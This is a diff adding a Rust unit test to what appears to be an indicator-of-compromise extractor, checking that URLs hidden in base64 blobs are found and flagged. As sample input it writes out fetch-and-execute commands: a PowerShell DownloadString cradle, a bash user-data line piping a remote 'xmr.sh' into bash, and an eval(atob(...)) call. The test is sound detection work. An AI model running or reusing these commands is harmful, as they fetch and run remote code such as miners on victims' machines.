@@ -2056,3 +2056,34 @@ fn blind_round_nine_ids_tokens_and_dkim_tags() {
         kinds_values(&[("domain", "hollister-freiqht.com")])
     );
 }
+
+#[test]
+fn links_in_base64_blobs() {
+    use base64::Engine as _;
+    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
+    // PowerShell's `-enc` (UTF-16LE), a cloud instance's user data
+    // (UTF-8), `atob("…")`: the link, with the blob's span, marked as not
+    // written as such. Text without a link gives nothing.
+    let script =
+        "IEX (New-Object Net.WebClient).DownloadString(\"http://193.233.132.18/ld/amd64\")";
+    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let enc = b64(&utf16);
+    let user_data = b64(b"#!/bin/bash\ncurl -s http://194.38.23.170/xmr.sh | bash\n");
+    let text = format!(
+        "powershell -nop -enc {enc}\n\"userData\": \"{user_data}\"\neval(atob(\"{}\"))\ntoken {}",
+        b64(b"http://147.45.78.190/pnl/save.php"),
+        b64(b"hello world, this is not a link"),
+    );
+    let got = Extractor::new().extract(&text);
+    let values: Vec<String> = got.iter().map(|m| m.value()).collect();
+    assert_eq!(
+        values,
+        [
+            "http://193.233.132.18/ld/amd64",
+            "http://194.38.23.170/xmr.sh",
+            "http://147.45.78.190/pnl/save.php"
+        ]
+    );
+    assert!(got.iter().all(|m| m.defanged));
+    assert_eq!(got[0].raw(&text), enc);
+}
